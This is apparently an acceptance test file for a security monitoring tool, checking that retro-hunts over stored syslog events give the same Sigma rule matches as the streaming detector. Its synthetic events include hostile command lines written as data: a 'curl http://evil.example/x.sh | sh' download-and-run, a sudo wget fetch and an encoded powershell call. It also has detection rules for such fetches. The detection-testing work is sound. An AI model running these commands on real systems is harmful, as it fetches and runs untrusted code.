import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { type EcsEvent, eventId } from '@citysoc/ecs';
import {
  loadPipelineFile,
  loadRules,
  loadRulesFromText,
  pipelineCompileOptions,
  type SigmaRule,
} from '@citysoc/sigma';
import {
  ElasticsearchEventStore,
  type EventStore,
  HuntError,
  openEventStore,
  retroHunt,
} from '@citysoc/store';
import { parseSyslog } from '@citysoc/syslog';
import { corpusDir } from '@citysoc/testing';
import { FakeCluster } from '../../../../libs/store/src/elasticsearch/testing/fake-cluster.test';
import { buildEngine } from '../../../detector/src/engine';

/**
 * The acceptance test: a retro-hunt over stored events returns the same matches as the streaming
 * detector for the same rule on the same events — on SQLite (matcher over the stored history) and on
 * Elasticsearch through the mock (translated query DSL, evaluated by the fake cluster, confirmed by the
 * matcher). Events are the shared corpus's Linux syslog lines as the collector parses them, plus a few
 * synthetic ones with the fields the extra rules look at.
 */
const root = path.resolve(__dirname, '..', '..', '..', '..');
// The detector's shipped pipeline, so hunts and the streaming engine select and name fields alike.
const pipeline = (() => {
  const loaded = loadPipelineFile(path.join(root, 'rules', 'pipelines', 'citysoc.yml'));
  if (!loaded.pipeline) throw new Error(JSON.stringify(loaded.errors));
  return loaded.pipeline;
})();
const routing = (() => {
  const o = pipelineCompileOptions(pipeline);
  return { logsource: o.logsource, logsourceSelections: o.eventsFor, compile: { fieldsFor: o.fieldsFor } };
})();

function corpusEvents(): EcsEvent[] {
  const dir = corpusDir();
  if (!dir) throw new Error('the shared corpus is missing (CITYSOC_CORPUS_DIR or ../shared/corpus)');
  const out: EcsEvent[] = [];
  let n = 0;
  for (const sub of ['syslog/linux-auth', 'syslog/linux']) {
    for (const f of readdirSync(path.join(dir, sub))
      .filter((x) => x.endsWith('.log'))
      .sort()) {
      for (const line of readFileSync(path.join(dir, sub, f), 'utf8').split('\n')) {
        if (!line.trim()) continue;
        const raw = Buffer.from(line);
        const r = parseSyslog(raw, {
          senderIp: '10.10.1.1',
          receivedAt: new Date(Date.parse('2026-11-27T03:00:00Z') + n++ * 1000),
          eventId: eventId('10.10.1.1', raw),
          inputName: 't',
          transport: 'tcp',
        });
        if (r.ok) out.push(r.event);
      }
    }
  }
  return out;
}

const synthetic = (i: number, extra: Partial<EcsEvent>): EcsEvent => ({
  '@timestamp': `2026-11-27T05:00:${String(i).padStart(2, '0')}.000Z`,
  message: `synthetic ${i}`,
  event: { id: `syn-${i}`, created: '2026-11-27T05:00:00.000Z', module: 'syslog', dataset: 'syslog' },
  ...extra,
});

const SYNTHETIC: EcsEvent[] = [
  synthetic(1, {
    source: { ip: '10.1.2.3', port: 50022 },
    user: { name: 'Root' },
    process: { name: 'sshd' },
  }),
  synthetic(2, {
    source: { ip: '192.168.7.7', port: 22 },
    user: { name: 'alice' },
    process: { name: 'sudo' },
  }),
  synthetic(3, {
    source: { ip: 'fd00::5' },
    user: { name: 'admin-ops' },
    message: 'Failed password for admin-ops',
  }),
  synthetic(4, {
    process: { name: 'bash', command_line: 'powershell /enc SQBFAFgA' },
    user: { name: 'bob' },
  }),
  synthetic(5, { process: { name: 'bash', command_line: 'curl http://evil.example/x.sh | sh' } }),
  synthetic(6, { network: { bytes: 5000 }, destination: { ip: '10.9.9.9', port: 443 } }),
  synthetic(7, { network: { bytes: 10 }, destination: { ip: '8.8.8.8', port: 53 }, tags: ['drill'] }),
  // Unit-attributed events (hunts are scoped like event search) with fields the mixed rules look at.
  synthetic(8, {
    message: 'sshd[311]: Failed password for invalid user oracle from 10.20.0.8 port 5022 ssh2',
    source: { ip: '10.20.0.8', port: 5022 },
    user: { name: 'oracle' },
    process: { name: 'sshd' },
    citysoc: { unit: { id: 'ba-dinh', name: 'Ba Đình', path: ['hanoi', 'ba-dinh'], criticality: 'high' } },
  }),
  synthetic(9, {
    message: 'sshd[312]: Failed password for invalid user oracle from 10.30.0.9 port 5023 ssh2',
    source: { ip: '10.30.0.9', port: 5023 },
    user: { name: 'oracle' },
    process: { name: 'sshd' },
    citysoc: {
      unit: { id: 'hanoi', name: 'Hà Nội', path: ['hanoi'], criticality: 'medium' },
      source_unit: {
        id: 'phuc-xa',
        name: 'Phúc Xá',
        path: ['hanoi', 'ba-dinh', 'phuc-xa'],
        criticality: 'low',
      },
    },
  }),
  synthetic(10, {
    message: 'sudo: oracle : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/wget http://203.0.113.5/a',
    process: { name: 'sudo', command_line: '/usr/bin/wget http://203.0.113.5/a' },
    user: { name: 'oracle' },
    citysoc: { unit: { id: 'dong-da', name: 'Đống Đa', path: ['hanoi', 'dong-da'], criticality: 'high' } },
  }),
];

const EXTRA_RULES = [
  `sel: { user.name: root }\ncondition: sel`,
  `sel: { user.name|cased: Root }\ncondition: sel`,
  `sel: { source.ip|cidr: [10.0.0.0/8, 'fd00::/8'] }\ncondition: sel`,
  `sel: { message|re: 'Failed password for (invalid user )?\\S+ from' }\ncondition: sel`,
  `sel: { message|contains|all: [session, opened] }\ncondition: sel`,
  `sel: { process.command_line|windash|contains: ' -enc ' }\ncondition: sel`,
  `sel: { network.bytes|gte: 1000 }\ncondition: sel`,
  `sel: { destination.port: 53 }\ncondition: sel`,
  `sel: { user.name|exists: true }\nf: { user.name|startswith: adm }\ncondition: sel and not f`,
  `a: { process.name: sshd }\nb: { process.name: sudo }\nc: { user.name: root }\ncondition: 1 of a* or (b and c)`,
  `a: { message|contains: error }\nb: { message|contains: failed }\ncondition: all of them`,
  `sel: { user.name|neq: alice }\ncondition: sel`,
  `keywords: [Connection reset, 'segfault']\ncondition: keywords`,
  `sel: { log.syslog.appname|endswith: [d, Manager] }\ncondition: sel`,
  // Realistic mixes: several modifiers in one rule, keywords beside field selections, cidr with re.
  [
    `auth:`,
    `  message|contains|all: [Failed password, invalid user]`,
    `  message|re: 'port [0-9]{4,5} ssh2$'`,
    `internal:`,
    `  source.ip|cidr: [10.0.0.0/8, 172.16.0.0/12]`,
    `svc_accounts:`,
    `  user.name|startswith: [ora, postgres, mysql]`,
    `condition: auth and internal and svc_accounts`,
  ].join('\n'),
  [
    `keywords: ['COMMAND=/usr/bin/wget', 'COMMAND=/usr/bin/curl']`,
    `sudo: { process.name: sudo }`,
    `fetch: { process.command_line|contains: ['http://', 'https://'] }`,
    `root: { message|contains|cased: 'USER=root' }`,
    `condition: sudo and (keywords or fetch) and root`,
  ].join('\n'),
  [
    `sel:`,
    `  - message|re|i: 'accepted (password|publickey) for'`,
    `  - source.port|gte: 50000`,
    `ext:`,
    `  source.ip|cidr: [10.0.0.0/8, 192.168.0.0/16, 'fd00::/8']`,
    `noise:`,
    `  user.name|neq: Root`,
    `  user.name|exists: true`,
    `condition: sel and not ext or (ext and not noise)`,
  ].join('\n'),
];

function extraRule(i: number, detection: string): SigmaRule {
  const id = `6f1e3c52-6a2f-4e0b-9b8a-${String(i).padStart(12, '0')}`;
  const text = `title: extra ${i}\nid: ${id}\nstatus: stable\nlogsource: { product: linux }\nlevel: low\ndetection:\n${detection
    .split('\n')
    .map((l) => '  ' + l)
    .join('\n')}\n`;
  const { rules, errors } = loadRulesFromText(text, `extra-${i}.yml`);
  if (!rules[0] || errors.length) throw new Error(JSON.stringify(errors));
  return rules[0];
}

const events = [...corpusEvents(), ...SYNTHETIC];
const rules: SigmaRule[] = [
  ...loadRules([path.join(root, 'rules')]).rules.filter((r) => r.kind === 'detection'),
  ...EXTRA_RULES.map((d, i) => extraRule(i + 1, d)),
];

function detectorMatches(rule: SigmaRule): string[] {
  const engine = buildEngine([rule], pipeline);
  return events
    .filter((e) => engine.detect(e).some((a) => a.rule.id === rule.id))
    .map((e) => e.event.id)
    .sort();
}

const stores: Array<[string, () => { store: EventStore; done: () => void }]> = [
  [
    'SQLite',
    () => {
      const dir = mkdtempSync(path.join(os.tmpdir(), 'citysoc-hunt-'));
      const store = openEventStore(dir);
      return { store, done: () => rmSync(dir, { recursive: true, force: true }) };
    },
  ],
  [
    'Elasticsearch (mock)',
    () => {
      const fake = new FakeCluster();
      return { store: new ElasticsearchEventStore(fake.client()), done: () => undefined };
    },
  ],
];

/** Filter documents as SigmaHQ ships them: they target rules by id and narrow them the same way here. */
const FILTERS: SigmaRule[] = loadRulesFromText(
  [
    `title: jump host`,
    `id: 7a0d1c8e-3f0b-4e6b-8a57-000000000001`,
    `logsource: { product: linux }`,
    `filter:`,
    `  rules: [6f1e3c52-6a2f-4e0b-9b8a-000000000015, 6f1e3c52-6a2f-4e0b-9b8a-000000000003]`,
    `  jump: { source.ip|cidr: 10.30.0.0/16 }`,
    `  condition: jump`,
    `---`,
    `title: known scanner`,
    `id: 7a0d1c8e-3f0b-4e6b-8a57-000000000002`,
    `logsource: { product: linux }`,
    `filter:`,
    `  rules: [6f1e3c52-6a2f-4e0b-9b8a-000000000016]`,
    `  scanner: { message|contains: 'wget http://203.0.113.5/' }`,
    `  condition: scanner`,
  ].join('\n'),
  'filters.yml',
).rules;

function detectorMatchesWith(rule: SigmaRule, extra: SigmaRule[]): string[] {
  const engine = buildEngine([rule, ...extra], pipeline);
  return events
    .filter((e) => engine.detect(e).some((a) => a.rule.id === rule.id))
    .map((e) => e.event.id)
    .sort();
}

const inUnit = (e: EcsEvent, scope: string[]): boolean =>
  [e.citysoc?.unit, e.citysoc?.source_unit, e.citysoc?.destination_unit].some(
    (u) => u !== undefined && scope.every((p, i) => u.path[i] === p),
  );

describe.each(stores)('retro-hunt on %s', (_name, open) => {
  let store: EventStore;
  let done: () => void;
  beforeAll(async () => {
    ({ store, done } = open());
    await store.insertEvents(events);
  });
  afterAll(async () => {
    await store.close();
    done();
  });

  it('has a corpus worth hunting in', () => {
    expect(events.length).toBeGreaterThan(50);
    expect(rules.length).toBeGreaterThanOrEqual(EXTRA_RULES.length + 5);
  });

  it.each(rules.map((r) => [r.title, r] as const))(
    '%s: same matches as the streaming detector',
    async (_t, rule) => {
      const want = detectorMatches(rule);
      const got = await retroHunt(store, rule, {}, { ...routing, maxMatches: 10_000, pageSize: 37 });
      expect(got.truncated).toBe(false);
      expect(got.matches.map((m) => m.event.event.id).sort()).toEqual(want);
      if (got.engine === 'elasticsearch') {
        expect(got.warnings.filter((w) => w.startsWith('logsource not pushed'))).toEqual([]);
        expect(got.logsourcePushedDown).toBe(true);
      }
    },
  );

  it('finds something: the comparison is not between empty sets', async () => {
    let total = 0;
    for (const rule of rules) total += detectorMatches(rule).length;
    expect(total).toBeGreaterThan(20);
    const ssh = rules.find((r) => r.title === 'SSH authentication failure') as SigmaRule;
    expect(detectorMatches(ssh).length).toBeGreaterThan(0);
    // Each mixed rule (the last three extras) finds some events and misses others.
    for (const r of rules.slice(-3)) {
      const n = detectorMatches(r).length;
      expect([r.title, n > 0 && n < events.length]).toEqual([r.title, true]);
    }
  });

  it('the detector running every rule at once alerts each rule on the events the hunt finds for it', async () => {
    // The detector runs the whole set together (shared literal index, routes); hunts run one rule.
    const engine = buildEngine([...rules, ...FILTERS], pipeline);
    const byRule = new Map<string, string[]>();
    for (const e of events)
      for (const a of engine.detect(e)) byRule.set(a.rule.id, [...(byRule.get(a.rule.id) ?? []), e.event.id]);
    let compared = 0;
    for (const rule of rules) {
      const got = await retroHunt(store, rule, {}, { ...routing, filters: FILTERS, maxMatches: 10_000 });
      expect([rule.title, got.matches.map((m) => m.event.event.id).sort()]).toEqual([
        rule.title,
        (byRule.get(rule.id) ?? []).sort(),
      ]);
      compared += got.matches.length;
    }
    expect(compared).toBeGreaterThan(20);
  });

  it.each(FILTERS.flatMap((f) => f.filter?.rules ?? []).map((id) => [id] as const))(
    'applies the filter documents targeting %s exactly as the detector does',
    async (id) => {
      const rule = rules.find((r) => r.id === id) as SigmaRule;
      const want = detectorMatchesWith(rule, FILTERS);
      const unfiltered = detectorMatches(rule);
      // The filter removes something, or the comparison would not show it was applied.
      expect(want.length).toBeLessThan(unfiltered.length);
      const got = await retroHunt(store, rule, {}, { ...routing, filters: FILTERS, maxMatches: 10_000 });
      expect(got.matches.map((m) => m.event.event.id).sort()).toEqual(want);
      expect(got.filters.map((f) => f.id)).toEqual(
        FILTERS.filter((f) => f.filter?.rules.includes(id)).map((f) => f.id),
      );
      if (got.engine === 'elasticsearch') {
        expect(got.filters.every((f) => f.pushedDown)).toBe(true);
        expect(JSON.stringify(got.query)).toContain('must_not');
      }
    },
  );

  it.each([['hanoi'], ['hanoi/ba-dinh'], ['hanoi/ba-dinh/phuc-xa'], ['hanoi/dong-da'], ['danang']])(
    'within unit scope %s: the detector matches whose event lies in the subtree',
    async (scope) => {
      const parts = scope.split('/');
      let total = 0;
      for (const rule of rules) {
        const inScope = new Set(events.filter((e) => inUnit(e, parts)).map((e) => e.event.id));
        const want = detectorMatches(rule).filter((id) => inScope.has(id));
        const got = await retroHunt(store, rule, { scope }, { ...routing, maxMatches: 10_000 });
        expect([rule.title, got.matches.map((m) => m.event.event.id).sort()]).toEqual([rule.title, want]);
        total += want.length;
      }
      if (scope === 'danang') expect(total).toBe(0);
      else expect(total).toBeGreaterThan(0);
    },
  );

  it('bounds the hunt and says so', async () => {
    const any = extraRule(99, `sel: { event.module: syslog }\ncondition: sel`);
    const byMatches = await retroHunt(store, any, {}, { ...routing, maxMatches: 3 });
    expect(byMatches).toMatchObject({ truncated: 'max_matches' });
    expect(byMatches.matches).toHaveLength(3);
    const byScan = await retroHunt(store, any, {}, { ...routing, maxScanned: 5 });
    expect(byScan).toMatchObject({ truncated: 'max_scanned', scanned: 5 });
  });

  it('honours the time range', async () => {
    const any = extraRule(98, `sel: { event.module: syslog }\ncondition: sel`);
    const r = await retroHunt(
      store,
      any,
      { from: '2026-11-27T05:00:02Z', to: '2026-11-27T05:00:05Z' },
      { ...routing },
    );
    expect(r.matches.map((m) => m.event.event.id).sort()).toEqual(['syn-2', 'syn-3', 'syn-4']);
  });

  it('reports a rule the detector would not apply instead of hunting with it', async () => {
    const win = loadRulesFromText(
      `title: w\nid: 6f1e3c52-6a2f-4e0b-9b8a-0000000000ff\nlogsource: { product: macos }\nlevel: low\ndetection:\n  s: { x: y }\n  condition: s\n`,
      'w.yml',
    ).rules[0] as SigmaRule;
    const r = await retroHunt(store, win, {}, { ...routing });
    expect(r.notApplicable).toMatch(/macos/);
    expect(r.matches).toEqual([]);
  });
});

describe('retro-hunt refusals', () => {
  it('refuses, with the reason, a rule Elasticsearch cannot express', async () => {
    const fake = new FakeCluster();
    const store = new ElasticsearchEventStore(fake.client());
    const rule = extraRule(97, `sel: { user.name|fieldref: source.user.name }\ncondition: sel`);
    await expect(retroHunt(store, rule, {})).rejects.toThrow(HuntError);
    await expect(retroHunt(store, rule, {})).rejects.toThrow(/fieldref/);
    expect(fake.requestsTo('POST', '/logs-citysoc')).toHaveLength(0);
    await store.close();
  });

  it('sends the translated query inside the time-range filter', async () => {
    const fake = new FakeCluster();
    const store = new ElasticsearchEventStore(fake.client());
    const rule = extraRule(96, `sel: { process.name: sshd }\ncondition: sel`);
    const r = await retroHunt(store, rule, { from: '2026-11-27T00:00:00Z' }, { pageSize: 50 });
    const [search] = fake.requestsTo('POST', '/logs-citysoc.syslog-*,logs-citysoc.flow-*/_search');
    expect((search?.body as { query: unknown; size: number }).query).toEqual({
      bool: {
        filter: [
          { range: { '@timestamp': { gte: '2026-11-27T00:00:00.000Z' } } },
          { term: { 'process.name': { value: 'sshd', case_insensitive: true } } },
        ],
      },
    });
    expect((search?.body as { size: number }).size).toBe(51);
    expect(r.query).toEqual({ term: { 'process.name': { value: 'sshd', case_insensitive: true } } });
    await store.close();
  });

  it('sends scope, filter (must_not) and a drill run restriction in the one search body', async () => {
    const fake = new FakeCluster();
    const store = new ElasticsearchEventStore(fake.client());
    const rule = extraRule(95, `sel: { process.name: sshd }\ncondition: sel`);
    const filter = loadRulesFromText(
      `title: f\nid: 7a0d1c8e-3f0b-4e6b-8a57-0000000000f5\nlogsource: { product: linux }\nfilter:\n  rules: [${rule.id}]\n  s: { user.name: svc }\n  condition: s\n`,
      'f.yml',
    ).rules;
    await retroHunt(
      store,
      rule,
      { from: '2026-11-27T00:00:00Z', scope: 'hanoi/ba-dinh' },
      { pageSize: 50, filters: filter, only: { field: 'labels.drill', value: 'd-RUN00001' } },
    );
    const [search] = fake.requestsTo('POST', '/logs-citysoc.syslog-*,logs-citysoc.flow-*/_search');
    const unitPaths = (which: string) => ({
      bool: {
        filter: [
          { term: { [`citysoc.${which}.path`]: 'hanoi' } },
          { term: { [`citysoc.${which}.path`]: 'ba-dinh' } },
        ],
      },
    });
    expect((search?.body as { query: unknown }).query).toEqual({
      bool: {
        filter: [
          { range: { '@timestamp': { gte: '2026-11-27T00:00:00.000Z' } } },
          {
            bool: {
              should: [unitPaths('unit'), unitPaths('source_unit'), unitPaths('destination_unit')],
              minimum_should_match: 1,
            },
          },
          {
            bool: {
              filter: [
                { term: { 'process.name': { value: 'sshd', case_insensitive: true } } },
                { term: { 'labels.drill': 'd-RUN00001' } },
              ],
              must_not: [{ term: { 'user.name': { value: 'svc', case_insensitive: true } } }],
            },
          },
        ],
      },
    });
    await store.close();
  });
});
